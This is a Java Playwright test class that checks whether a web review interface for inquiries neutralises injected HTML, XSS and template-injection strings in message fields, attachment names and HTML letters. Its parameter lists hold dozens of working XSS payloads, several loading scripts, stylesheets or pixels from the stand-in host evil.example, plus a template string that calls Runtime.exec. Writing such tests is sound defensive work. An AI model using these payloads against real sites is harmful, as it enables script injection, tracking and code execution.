package org.inquirytriage.review.web;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import com.microsoft.playwright.Locator;
import org.inquirytriage.inquiry.BodyText;
import org.inquirytriage.inquiry.Explanation;
import org.inquirytriage.inquiry.Explanation.Attachment;
import org.inquirytriage.inquiry.Explanation.Mark;
import org.inquirytriage.inquiry.Explanation.Source;
import org.inquirytriage.inquiry.InquiryId;
import org.inquirytriage.triage.Evidence.Layer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Scripts in subject, body, quoted text, attachment names and evidence do nothing. */
class InjectionTests extends BrowserTest {

	private final List<String> strangeRequests = new ArrayList<>();

	private final List<String> complaints = new ArrayList<>();

	@BeforeEach
	void enter() {
		this.strangeRequests.clear();
		this.complaints.clear();
		this.cases.clear();
		goOn();
		this.page.onRequest((request) -> {
			if (!request.url().startsWith("http://localhost:")) {
				this.strangeRequests.add(request.url());
			}
		});
		this.page.onConsoleMessage((message) -> {
			if (message.text().contains("Content Security Policy")) {
				this.complaints.add(message.text());
			}
		});
		this.page.onDialog((dialog) -> {
			this.complaints.add(dialog.message());
			dialog.dismiss();
		});
	}

	@ParameterizedTest
	@ValueSource(strings = { "<script>window.attacked=1</script>", "<img src=x onerror=window.attacked=1>",
			"<svg/onload=window.attacked=1>", "\"><script src=//evil.example/x.js></script>",
			"'\" onmouseover=window.attacked=1 autofocus onfocus=window.attacked=1 x=\"",
			"</title><script>window.attacked=1</script>",
			"</textarea></style></script><script>window.attacked=1</script>",
			"<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>", "<base href=//evil.example/>",
			"<meta http-equiv=refresh content='0;url=//evil.example/'>",
			"<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/a.css';</style>",
			"<form action=//evil.example/><button>Claim it</button></form>",
			"<a href=\"javascript:window.attacked=1\">Open</a>", "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
			"<div data-hx-on:load=\"window.attacked=1\">x</div>", "<object data=//evil.example/x.swf></object>",
			"<details open ontoggle=window.attacked=1>", "<math><mi xlink:href=\"javascript:window.attacked=1\">",
			"<body onload=window.attacked=1>", "<video><source onerror=window.attacked=1></video>",
			"${T(java.lang.Runtime).getRuntime().exec('id')}", "__${7919*7907}__::.x",
			"[[${7919*7907}]] [(${7919*7907})] {{7919*7907}} #{7919*7907}", "<th:block th:utext=\"${7919*7907}\">",
			"\u202Egnp.exe\u2066 <b>bold</b>", "\u0001\u0008<script>window.attacked=1</script>",
			"<scr<script>ipt>window.attacked=1</scr</script>ipt>", "%3Cscript%3Ewindow.attacked=1%3C/script%3E",
			"&lt;script&gt;window.attacked=1&lt;/script&gt;", "<!--><script>window.attacked=1</script-->" })
	void doNothing(String attack) {
		InquiryId id = this.cases.held("S " + attack, "unsure",
				new BodyText("B " + attack, "Q " + attack, "G " + attack, attack), explanation(attack));
		for (String path : List.of("/?words=" + encoded(attack), "/inquiries/" + id)) {
			go(path);
			this.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)");
			this.page
				.evaluate("document.querySelectorAll('main *').forEach(e => e.dispatchEvent(new Event('mouseover')))");
			assertThat(this.page.evaluate("window.attacked")).isNull();
			assertThat(this.page
				.locator("main script, main iframe:not([sandbox='']), main object, main style, main svg, main img")
				.count()).isZero();
		}
		assertThat(this.page.locator(".letter .text").first().textContent()).contains("B " + attack.substring(0, 1));
		assertThat(this.page.content()).doesNotContain("62615533");
		assertThat(this.strangeRequests).isEmpty();
		assertThat(this.complaints).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "<script>parent.attacked=1</script>", "<script src=http://evil.example/x.js></script>",
			"<img src=http://evil.example/pixel.gif>", "<img srcset='http://evil.example/a.png 1x' alt=x>",
			"<picture><source srcset=http://evil.example/a.png><img src=x onerror=parent.attacked=1></picture>",
			"<table background=http://evil.example/a.png><tr><td background=//evil.example/b.png>x</td></tr></table>",
			"<div style=\"background:url(http://evil.example/a.png)\">x</div>",
			"<style>body{background:url(http://evil.example/a.png)}</style>",
			"<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)} *{font-family:x}</style>",
			"<link rel=stylesheet href=http://evil.example/a.css>", "<link rel=prefetch href=http://evil.example/>",
			"<link rel=dns-prefetch href=//evil.example>",
			"<meta http-equiv=refresh content='0;url=http://evil.example/'>",
			"<base href=http://evil.example/><p>x</p>", "<iframe src=http://evil.example/></iframe>",
			"<iframe srcdoc='<script>parent.parent.attacked=1</script>'></iframe>",
			"<object data=http://evil.example/x></object>", "<embed src=http://evil.example/x>",
			"<video src=http://evil.example/v.mp4 autoplay poster=http://evil.example/p.png></video>",
			"<audio src=http://evil.example/a.mp3 autoplay></audio>",
			"<svg><image href=http://evil.example/a.png /><script>parent.attacked=1</script></svg>",
			"<svg onload=parent.attacked=1><use href=http://evil.example/a.svg#x /></svg>",
			"<math><annotation-xml encoding=text/html><img src=http://evil.example/m.png></annotation-xml></math>",
			"<form action=http://evil.example/><input name=q autofocus onfocus=parent.attacked=1></form>",
			"<button formaction=http://evil.example/ onclick=parent.attacked=1>x</button>",
			"<a href=http://evil.example/ ping=http://evil.example/ping>Open</a>",
			"<a href=javascript:parent.attacked=1>x</a>", "<area href=http://evil.example/ shape=default>",
			"<body onload=parent.attacked=1 background=http://evil.example/a>",
			"<p onmouseover=parent.attacked=1 style='position:fixed;inset:0'>x</p>",
			"<noscript><p title=\"</noscript><img src=//evil.example/n onerror=parent.attacked=1>\">x</noscript>",
			"<template><img src=http://evil.example/t.png></template>",
			"<textarea></textarea><img src=http://evil.example/x.png onerror=parent.attacked=1></textarea>",
			"<!--[if mso]><img src=http://evil.example/mso.png><![endif]-->",
			"<![CDATA[<img src=http://evil.example/c.png>]]>", "<bgsound src=http://evil.example/x.mid>",
			"<input type=image src=http://evil.example/i.png>", "<html manifest=http://evil.example/m><p>x</p>",
			"<isindex action=http://evil.example/ prompt=x>", "<frameset><frame src=http://evil.example/></frameset>",
			"<xml id=x src=http://evil.example/x.xml></xml>",
			"<p style=\"behavior:url(http://evil.example/x.htc)\">x</p>",
			"<p style=\"width:expression(parent.attacked=1)\">x</p>",
			"<dialog open><img src=http://evil.example/d.png></dialog>" })
	void doNothingInTheHtmlPart(String attack) {
		InquiryId id = this.cases.held("An HTML letter", "unsure",
				new BodyText("Hello", "", "", "<p>Before</p>" + attack + "<p>After</p>"), Explanation.NONE);
		go("/inquiries/" + id);
		this.page.click(".html-letter summary");
		Locator body = this.page.frameLocator(".html-letter iframe").locator("body");
		assertThat(body
			.locator("style, script, img, a, iframe, object, embed, form, input, button, svg, video, audio, "
					+ "link, meta, base, [style], [src], [href], [onload], [onmouseover]")
			.count()).isZero();
		assertThat(body.innerHTML()).contains("<p>Before</p>").doesNotContainIgnoringCase("<script", "onerror=");
		assertThat(this.page.evaluate("window.attacked")).isNull();
		assertThat(this.page.url()).endsWith("/inquiries/" + id);
		assertThat(this.strangeRequests).isEmpty();
		assertThat(this.complaints).isEmpty();
	}

	private static Explanation explanation(String attack) {
		return new Explanation(
				List.of(new Mark(Layer.CLINICAL, attack, attack, Source.BODY, 2, 2 + attack.length() / 2)), List.of(),
				List.of(), List.of(new Attachment(attack + ".pdf", attack, 10)));
	}

	private static String encoded(String text) {
		return URLEncoder.encode(text, StandardCharsets.UTF_8);
	}

}
